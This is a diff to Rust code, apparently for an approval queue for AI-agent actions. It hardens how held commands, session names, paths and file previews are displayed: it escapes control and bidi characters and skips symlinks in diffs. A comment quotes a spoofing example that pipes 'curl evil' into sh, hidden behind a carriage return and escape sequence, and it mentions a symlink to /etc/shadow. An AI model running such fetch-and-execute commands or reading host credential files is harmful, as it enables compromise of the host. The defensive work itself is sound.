@@ -39,10 +39,21 @@ fn command_of(a: &HeldAction) -> String {
 /// that reorder or hide text, are shown escaped (`\x1b`, `\u{202e}`). A
 /// carriage return or an escape sequence would otherwise let a line show
 /// something else than it holds (`curl evil | sh\r\x1b[2Kecho hello`).
-fn visible(text: &str) -> String {
+pub(crate) fn visible(text: &str) -> String {
+    shown(text, false)
+}
+
+/// [`visible`] for a name or one line (a path, a symlink's target, a
+/// session): its line breaks escaped too, so that it cannot pass for lines
+/// of its own.
+fn visible_line(text: &str) -> String {
+    shown(text, true)
+}
+
+fn shown(text: &str, one_line: bool) -> String {
     let hidden = |c: char| {
-        (c.is_control() && c != '\n' && c != '\t')
-            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
+        (c.is_control() && (one_line || (c != '\n' && c != '\t')))
+            || matches!(c, '\u{061c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
     };
     if !text.chars().any(hidden) {
         return text.to_string();
@@ -79,7 +90,7 @@ pub fn pending(state: &Path, json: bool) -> i32 {
                         "{}  {:<11} {}  approvals {}/{}  `{}`",
                         a.id,
                         a.state.as_str(),
-                        visible(&a.session),
+                        visible_line(&a.session),
                         valid_approvals(a),
                         a.required_approvals,
                         command_of(a)
@@ -142,7 +153,10 @@ pub fn show(state: &Path, id: &str, json: bool) -> i32 {
     println!("  an approval binds:");
     println!(
         "    session {} (proposal {}), action {}, idempotency key {}",
-        a.session, a.position, a.id, a.idempotency_key
+        visible_line(&a.session),
+        a.position,
+        a.id,
+        visible_line(&a.idempotency_key)
     );
     println!(
         "    intent {} (stdin {}, env {})",
@@ -360,9 +374,9 @@ fn is_binary(p: &Path) -> bool {
     use std::io::Read;
     let mut buf = [0u8; 8192];
     // The preview's files are the run's: a FIFO among them must not hang `show`.
-    let n = crate::workspace::open_planted(p)
-        .and_then(|mut f| f.read(&mut buf))
-        .unwrap_or(0);
+    let Ok(n) = crate::workspace::open_planted(p).and_then(|mut f| f.read(&mut buf)) else {
+        return true; // not a regular file: nothing to show as text
+    };
     // NUL bytes, or bytes that are not UTF-8 (a sequence cut at the end of the
     // sample does not count).
     buf[..n].contains(&0) || std::str::from_utf8(&buf[..n]).is_err_and(|e| e.error_len().is_some())
@@ -411,7 +425,7 @@ fn print_preview(c: &HeldContext, state: &str) {
             } else {
                 c.workspace.join(path)
             };
-            println!("    {what:<9}{} ({})", visible(path), visible(&size_of(&at)));
+            println!("    {what:<9}{} ({})", visible_line(path), visible_line(&size_of(&at)));
         }
     }
     for v in &p.violations {
@@ -419,12 +433,20 @@ fn print_preview(c: &HeldContext, state: &str) {
     }
     let mut budget = DIFF_LINES_TOTAL;
     for path in p.modified.iter().chain(&p.added) {
+        // Regular files only, never through a symlink: the run may have
+        // made one to a file of the host's (`-> /etc/shadow`), which `diff`
+        // would print.
+        let regular = |p: &Path| std::fs::symlink_metadata(p).is_ok_and(|m| m.is_file());
         let new = upper.join(path);
-        if budget == 0 || !new.is_file() || is_binary(&new) {
+        if budget == 0 || !regular(&new) || is_binary(&new) {
             continue;
         }
         let old = c.workspace.join(path);
-        let old = if old.is_file() { old } else { PathBuf::from("/dev/null") };
+        let old = if regular(&old) && !is_binary(&old) {
+            old
+        } else {
+            PathBuf::from("/dev/null")
+        };
         let Ok(o) = std::process::Command::new("diff")
             .args(["-u", "--label", &format!("a/{path}"), "--label", &format!("b/{path}")])
             .arg(&old)
